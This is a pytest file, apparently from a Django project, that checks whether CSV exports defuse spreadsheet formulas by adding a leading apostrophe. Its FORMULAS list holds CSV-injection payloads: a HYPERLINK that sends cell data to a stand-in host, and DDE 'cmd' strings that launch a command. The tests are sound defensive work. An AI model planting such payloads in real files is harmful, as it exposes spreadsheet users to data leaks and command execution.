"""CSV exports cannot run formulas: a cell that a spreadsheet would evaluate (starting
with = + - @, a tab or a carriage return) gets a leading apostrophe, in every column of
every list the API exports — the "Download CSV" of the public lists included."""

import csv
import io

import pytest
from rest_framework.test import APIClient

from config.api import csv_cell
from parties.models import PartyAlias
from tests.factories import (
    make_agreement,
    make_citation,
    make_event,
    make_party,
    make_sector,
    make_source,
)

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_cell_gets_a_leading_apostrophe(formula):
    assert csv_cell(formula) == "'" + formula


@pytest.mark.parametrize("text", ["Korea–Peru MOU", "1+1", "a=b", "", " =1", "'=1"])
def test_other_cells_are_left_alone(text):
    assert csv_cell(text) == text


def test_numbers_dates_and_nulls_are_plain():
    assert csv_cell(None) == ""
    assert csv_cell(463000000) == "463000000"
    assert csv_cell(True) == "true"


def rows(path):
    response = APIClient().get(path, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def assert_defused(row, columns, formula):
    for column in columns:
        assert row[column] == "'" + formula, (column, row[column])


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_exported_text_column_is_defused(formula):
    party = make_party(
        name=formula,
        slug="formula-party",
        short_name=formula[:100],
        description=formula,
    )
    PartyAlias.objects.create(party=party, name=formula)
    sector = make_sector(name=formula[:100], slug="formula-sector", description=formula)
    event = make_event(name=formula, slug="formula-event", place=formula, description=formula)
    agreement = make_agreement(
        title=formula,
        slug="formula-agreement",
        summary=formula,
        place=formula,
        value_amount="1.00",
        value_currency="USD",
        value_note=formula,
        parties=[party],
        sectors=[sector],
        event=event,
    )
    make_citation(agreement=agreement, source=make_source(title=formula, publisher=formula))

    (exported_agreement,) = rows("/api/v1/agreements/")
    assert_defused(exported_agreement, ["title", "summary", "place", "value_note"], formula)
    (exported_party,) = rows("/api/v1/parties/")
    assert_defused(exported_party, ["name", "short_name", "description", "aliases"], formula)
    (exported_event,) = rows("/api/v1/events/")
    assert_defused(exported_event, ["name", "place", "description"], formula)
    (exported_sector,) = rows("/api/v1/sectors/")
    assert_defused(exported_sector, ["name", "description"], formula)
    (source,) = rows("/api/v1/sources/")
    assert_defused(source, ["title", "publisher"], formula)


def test_the_public_lists_download_link_is_the_defused_export(client):
    make_agreement(title="=1+1", slug="formula-agreement")
    page = client.get("/agreements/").content.decode()
    assert 'href="/api/v1/agreements/?format=csv"' in page
    (agreement,) = rows("/api/v1/agreements/")
    assert agreement["title"] == "'=1+1"
